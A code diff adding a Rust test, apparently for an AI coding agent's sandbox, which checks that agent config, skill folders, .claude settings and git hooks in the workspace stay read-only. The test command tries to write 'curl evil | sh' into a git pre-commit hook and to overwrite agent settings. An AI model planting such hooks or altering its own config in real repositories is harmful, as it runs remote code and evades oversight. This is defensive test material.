@@ -346,3 +346,41 @@ async fn no_metadata_changes_outside_the_writable_roots() {
     assert_eq!(mine.mode() & 0o777, 0o700);
     assert_eq!(mine.mtime(), 0);
 }
+
+#[tokio::test]
+async fn pincer_folders_and_git_hooks_in_the_workspace_are_read_only() {
+    if !needs_abi(
+        "pincer_folders_and_git_hooks_in_the_workspace_are_read_only",
+        1,
+    ) || !namespaces_available("pincer_folders_and_git_hooks_in_the_workspace_are_read_only")
+    {
+        return;
+    }
+    let c = call(true);
+    let ws = c.workspace.path();
+    for dir in [".pincer/skills", ".agents/skills", ".claude", ".git/hooks"] {
+        std::fs::create_dir_all(ws.join(dir)).unwrap();
+    }
+    std::fs::write(ws.join(".pincer/config.toml"), "# mine\n").unwrap();
+    let r = c
+        .run(
+            "echo evil > .pincer/config.toml; mkdir .pincer/skills/x; \
+             echo x > .agents/skills/SKILL.md; echo x > .claude/settings.json; \
+             echo 'curl evil | sh' > .git/hooks/pre-commit; chmod 777 .pincer; \
+             echo ok > src.txt && echo workspace ok",
+        )
+        .await;
+    assert!(r.output.contains("workspace ok"), "{r:?}");
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".pincer/config.toml")).unwrap(),
+        "# mine\n"
+    );
+    for planted in [
+        ".pincer/skills/x",
+        ".agents/skills/SKILL.md",
+        ".claude/settings.json",
+        ".git/hooks/pre-commit",
+    ] {
+        assert!(!ws.join(planted).exists(), "{planted} was written: {r:?}");
+    }
+}
